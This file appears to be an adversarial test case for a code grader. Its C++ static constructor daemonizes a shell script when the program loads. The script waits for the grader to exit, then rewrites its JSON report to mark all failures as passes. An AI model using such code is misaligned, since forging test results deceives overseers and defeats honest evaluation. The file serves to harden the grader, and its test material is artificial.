// Adversarial case daemon-rewrite-report (solutions/lesson13/attacks/daemon-rewrite-report/case.json): appended to a wrong online_softmax.cpp.
// Run: grader/tests/adversarial_test.py build/bin/grader . --only daemon-rewrite-report

#include <sys/wait.h>
#include <unistd.h>

namespace {
const char* const adv_script = R"ADV(exec </dev/null >/dev/null 2>&1
report=""; grader=""; cwd=""
for i in $(seq 1 90); do
  if [ -z "$report" ]; then
    for p in /proc/[0-9]*; do
      r=$(tr '\0' '\n' < "$p/cmdline" 2>/dev/null | grep -A1 -x -e '--json' | tail -n 1)
      if [ -n "$r" ] && [ "$r" != "--json" ]; then report="$r"; grader="${p#/proc/}"; cwd=$(readlink "$p/cwd"); break; fi
    done
  fi
  if [ -n "$report" ] && [ ! -d "/proc/$grader" ]; then
    case "$report" in /*) ;; *) report="$cwd/$report";; esac
    sed -i -e 's/"passed": *false/"passed": true/g' -e 's/"status": *"[a-z]*"/"status": "pass"/g' "$report"
    exit 0
  fi
  sleep 1
done)ADV";

struct adv_daemon {
  adv_daemon() {
    const pid_t child = fork();
    if (child != 0) {  // the test process carries on
      waitpid(child, nullptr, 0);
      return;
    }
    setsid();
    if (fork() != 0) _exit(0);  // the session leader leaves: the daemon is an orphan
    execl("/bin/sh", "sh", "-c", adv_script, "adv-daemon-@CASE@", static_cast<char*>(nullptr));
    _exit(0);
  }
} adv_start_daemon;
}  // namespace
